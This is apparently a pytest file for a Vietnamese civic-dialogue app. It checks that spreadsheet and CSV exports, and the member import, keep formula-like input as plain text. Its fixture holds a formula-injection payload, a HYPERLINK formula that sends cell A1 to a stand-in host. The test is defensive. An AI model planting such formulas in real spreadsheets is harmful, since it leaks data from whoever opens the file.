"""Spreadsheets can't run what people typed: text starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR is
written as text in every XLSX and CSV the app makes, and the member import keeps such a name as the text it is.

Before ``core.spreadsheet``, ``=HYPERLINK("http://…?leak="&A1,…)`` in a submission became a live formula in
``questions.xlsx`` and ``followups/export.xlsx``."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from dialogue.accounts.models import User
from dialogue.core.spreadsheet import csv_cell, xml_text
from dialogue.core.timeutil import today_local
from dialogue.extensions import db
from dialogue.followups import services as followups
from dialogue.questions.models import Question
from dialogue.units import importer
from tests.reports_fixtures import make_session

LEAK = '=HYPERLINK("http://ngoai.example/?leak="&A1,"Xem chi tiết")'
STARTS = [LEAK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _formulas(data: bytes) -> list[str]:
    """Every formula element in the workbook's sheets (there must be none)."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in book.read(name) or b"<f " in book.read(name)]


def _cells(data: bytes) -> list:
    return [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]


def test_the_helpers():
    assert [csv_cell(v) for v in STARTS] == ["'" + v for v in STARTS]
    assert csv_cell("Bình thường =1") == "Bình thường =1" and csv_cell(-5) == -5
    assert xml_text("a\x0bb\x0cc\x00d\x1fe") == "a\nb\ncde"


def test_questions_xlsx_keeps_formulas_as_text(tree, login_as, client):
    session = make_session(tree, title="Buổi đối thoại")
    question = db.session.scalar(select(Question).where(Question.session_id == session.id))
    question.body, question.topic = LEAK, "+84 chủ đề"
    author = db.session.get(User, question.author_id)
    author.name = "@Nguyễn Văn A"
    db.session.commit()
    login_as(tree.organizer)
    data = client.get(f"/sessions/{session.id}/questions.xlsx").data
    assert _formulas(data) == []
    row = next(r for r in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=4))
    assert (row[3].value, row[4].value, row[5].value) == ("+84 chủ đề", LEAK, "@Nguyễn Văn A")
    assert {row[3].data_type, row[4].data_type, row[5].data_type} == {"s"}


def test_followups_export_keeps_formulas_as_text(tree, client, login_as):
    followups.create_commitment(
        tree.secretariat,
        description=LEAK,
        unit_id=tree.communes[0].id,
        due_date=today_local() + timedelta(days=10),
    )
    db.session.commit()
    login_as(tree.secretariat)
    data = client.get("/followups/export.xlsx").data
    assert _formulas(data) == []
    cells = [c for c in _cells(data) if c.value == LEAK]
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_statistics_exports_keep_formulas_as_text(tree, client, login_as):
    session = make_session(tree, title="-Buổi đối thoại")
    question = db.session.scalar(select(Question).where(Question.session_id == session.id))
    question.topic = LEAK
    db.session.commit()
    login_as(tree.secretariat)
    base = f"/reports/sessions/{session.id}/stats/export/submissions_by_topic"
    data = client.get(f"{base}/xlsx").data
    assert _formulas(data) == []
    values = {c.value: c.data_type for c in _cells(data)}
    assert values[LEAK] == "s" and values["-Buổi đối thoại"] == "s"  # the heading is the session's title
    rows = list(csv.reader(io.StringIO(client.get(f"{base}/csv").data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + LEAK
    query = "kind=range&from=2000-01-01&to=2099-12-31"
    rows = list(
        csv.reader(io.StringIO(client.get(f"/reports/stats/export/sessions/csv?{query}").data.decode("utf-8-sig")))
    )
    assert rows[1][0] == "'-Buổi đối thoại"
    assert _formulas(client.get(f"/reports/stats/export/sessions/xlsx?{query}").data) == []


def _xlsx(rows: list[list]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_member_import_stores_a_formula_as_the_text_it_is(tree):
    header = ["Họ tên", "Chức vụ", "Chi bộ", "Đảng ủy cơ sở", "Điện thoại", "Email"]
    data = _xlsx([header, [LEAK, "Bí thư chi bộ", "Chi bộ ấp Hòa An", "Bình An", "0911000009", ""]])
    preview = importer.preview("members.xlsx", data)
    assert preview.valid and preview.rows[0].name == LEAK
    importer.apply(tree.admin, "members.xlsx", data)
    person = db.session.scalar(select(User).where(User.phone == "0911000009"))
    assert person.name == LEAK
    csv_data = (",".join(header) + "\n+1+1 Nguyễn,Bí thư chi bộ,Chi bộ ấp Hòa An,Bình An,0911000010,\n").encode()
    importer.apply(tree.admin, "members.csv", csv_data)
    assert db.session.scalar(select(User.name).where(User.phone == "0911000010")) == "+1+1 Nguyễn"


def test_member_import_refuses_control_characters_by_row(tree):
    header = "Họ tên,Chức vụ,Chi bộ,Đảng ủy cơ sở,Điện thoại,Email\n"
    data = (header + "Nguyễn\x0bVăn Sáu,Bí thư chi bộ,Chi bộ ấp Hòa An,Bình An,0911000011,\n").encode()
    preview = importer.preview("members.csv", data)
    assert not preview.valid
    assert "Họ tên" in preview.rows[0].errors[0] and "U+000B" in preview.rows[0].errors[0]
